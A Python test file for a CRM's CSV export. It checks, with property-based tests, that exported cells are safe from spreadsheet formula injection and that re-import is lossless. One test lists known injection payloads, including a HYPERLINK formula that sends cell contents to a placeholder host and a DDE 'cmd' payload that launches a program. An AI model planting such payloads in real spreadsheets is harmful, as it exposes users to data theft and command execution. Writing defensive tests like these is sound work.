"""Rapport's CSV export: formula-safe in a spreadsheet, and read back losslessly by the importer."""

from __future__ import annotations

import csv
import datetime as dt
import io
import string

from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from crm.db import db
from crm.models import STAGES, Company, Contact, ContactEmail, ContactPhone, ContactTag, Tag
from crm.services import csv_export
from importers.base import Birthday, PersonRecord, name_key, normalize_phone
from importers.fields import clean_name, fast_clean
from importers.formats import parse_csv
from importers.spreadsheet import TRIGGERS

PREFIXES = ["", "", "=", "+", "-", "@", " =", "\u00a0=", "'=", "''+", "\t=", "\r=", "|", "%", '"', "\u00a0"]
CHARS = st.one_of(
    st.sampled_from(list("=+-@'\"\t\r\n ;,|%\u00a0") + ["\u2028", "🚀", "é", "ø", "\u0000"]),
    st.characters(blacklist_categories=("Cs",)),
)
TEXT = st.tuples(st.sampled_from(PREFIXES), st.text(CHARS, max_size=25)).map("".join)


def canonical_name(value: str) -> str:
    return clean_name(value)


def store(values: dict) -> int:
    with db.atomic():
        return _store(values)


def _store(values: dict) -> int:
    Contact.delete().execute()
    Company.delete().execute()
    Tag.delete().execute()
    company = None
    if values["company"]:
        company = Company.create(name=values["company"], name_key=name_key(values["company"]) or "x")
    full = " ".join(p for p in (values["first_name"], values["last_name"]) if p)
    birthday = values["birthday"]
    contact = Contact.create(
        first_name=values["first_name"],
        last_name=values["last_name"],
        full_name=full,
        name_key=name_key(full),
        linkedin_url=values["linkedin_url"] or None,
        company=company,
        title=values["title"],
        location=values["location"],
        website=values["website"],
        notes=values["notes"],
        stage=values["stage"],
        connected_on=values["connected_on"],
        birthday_month=birthday.month if birthday else None,
        birthday_day=birthday.day if birthday else None,
        birthday_year=birthday.year if birthday else None,
    )
    for position, email in enumerate(values["emails"]):
        ContactEmail.create(contact=contact, email=email, position=position)
    for position, phone in enumerate(values["phones"]):
        ContactPhone.create(contact=contact, phone=phone, phone_key=normalize_phone(phone), position=position)
    for tag in values["tags"]:
        ContactTag.create(contact=contact, tag=Tag.create(name=tag))
    return contact.id


def check_cells_are_neutral(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    for row in rows:
        for cell in row:
            bare = cell.lstrip(" \u00a0")
            assert not bare or bare[0] not in TRIGGERS or cell.startswith("'"), cell
    return rows


_NOCASE = str.maketrans(string.ascii_uppercase, string.ascii_lowercase)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    first=TEXT,
    last=TEXT,
    company=TEXT,
    title=TEXT,
    location=TEXT,
    website=TEXT,
    notes=TEXT,
    tags=st.lists(TEXT, max_size=4),
    emails=st.lists(
        st.from_regex(r"[a-z0-9._+-]{1,10}@[a-z0-9-]{1,8}\.[a-z]{2,4}", fullmatch=True), max_size=3
    ),
    phones=st.lists(st.from_regex(r"[+=-]?[0-9][0-9 ()-]{6,14}[0-9]", fullmatch=True), max_size=3),
    slug=st.one_of(st.just(""), st.from_regex(r"[a-z0-9][a-z0-9-]{2,20}", fullmatch=True)),
    birthday=st.one_of(
        st.none(),
        st.builds(
            Birthday, st.integers(1, 12), st.integers(1, 28), st.one_of(st.none(), st.integers(1900, 2010))
        ),
    ),
    stage=st.sampled_from(STAGES),
    connected_on=st.one_of(st.none(), st.dates(dt.date(2004, 1, 1), dt.date(2030, 1, 1))),
)
def test_export_round_trips_and_is_formula_safe(
    database,
    first,
    last,
    company,
    title,
    location,
    website,
    notes,
    tags,
    emails,
    phones,
    slug,
    birthday,
    stage,
    connected_on,
):
    values = {
        "first_name": canonical_name(first),
        "last_name": canonical_name(last),
        "company": canonical_name(company),
        "title": canonical_name(title),
        "location": canonical_name(location),
        "website": canonical_name(website),
        "notes": fast_clean(notes),
        "tags": list(dict.fromkeys(t for t in (canonical_name(t) for t in tags if ";" not in t) if t)),
        "emails": list(dict.fromkeys(emails)),
        "phones": list(
            {normalize_phone(p): p for p in map(canonical_name, phones) if normalize_phone(p)}.values()
        ),
        "linkedin_url": f"https://www.linkedin.com/in/{slug}" if slug else "",
        "birthday": birthday,
        "stage": stage,
        "connected_on": connected_on,
    }
    assume(values["first_name"] or values["last_name"] or values["emails"])
    assume(len({name_key(t) for t in values["tags"]}) == len(values["tags"]))
    store(values)
    text = csv_export.export_text()
    check_cells_are_neutral(text)
    (record,) = list(parse_csv(text.encode("utf-8"), "contacts.csv", format="rapport").records())
    assert isinstance(record, PersonRecord), record
    assert record.first_name == values["first_name"]
    assert record.last_name == values["last_name"]
    assert record.full_name == " ".join(p for p in (values["first_name"], values["last_name"]) if p)
    for name in ("company", "title", "location", "website", "notes", "stage", "linkedin_url", "birthday"):
        assert getattr(record, name) == values[name], name
    # the export lists tags by name as the tag table orders them: capitals A-Z as small (NOCASE)
    assert list(record.tags) == sorted(values["tags"], key=lambda t: t.translate(_NOCASE))
    assert list(record.emails) == values["emails"]
    assert list(record.phones) == values["phones"]
    assert record.connected_on == connected_on


def test_known_attack_strings_are_neutralised_and_restored(database):
    attacks = [
        '=HYPERLINK("http://x/?"&A1)',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+1 555 0100",
        "-5",
        "\t=1+1",
        " =1+1",
        "\u00a0=1+1",
    ]
    Contact.delete().execute()
    for i, attack in enumerate(attacks):
        Contact.create(first_name=f"P{i}", full_name=f"P{i}", name_key=f"p{i}", notes=attack, title=attack)
    text = csv_export.export_text()
    rows = check_cells_are_neutral(text)
    header = rows[0]
    notes = [row[header.index("notes")] for row in rows[1:]]
    assert notes[0] == "'" + attacks[0] and notes[6] == "' =1+1" and notes[7] == "'\u00a0=1+1"
    records = list(parse_csv(text.encode("utf-8"), "contacts.csv").records())
    # Stored text is trimmed (forms and importers both strip), so compare with the trimmed text.
    assert [r.notes for r in records] == [a.strip() for a in attacks]
    assert [r.title for r in records] == [clean_name(a) for a in attacks]


def test_export_reads_back_as_the_rapport_format(database):
    Contact.create(first_name="Ada", full_name="Ada", name_key="ada", stage="customer", website="ada.example")
    parsed = parse_csv(csv_export.export_text().encode("utf-8"), "contacts.csv")
    assert parsed.format == "rapport"
    (ada,) = list(parsed.records())
    assert (ada.stage, ada.website) == ("customer", "ada.example")
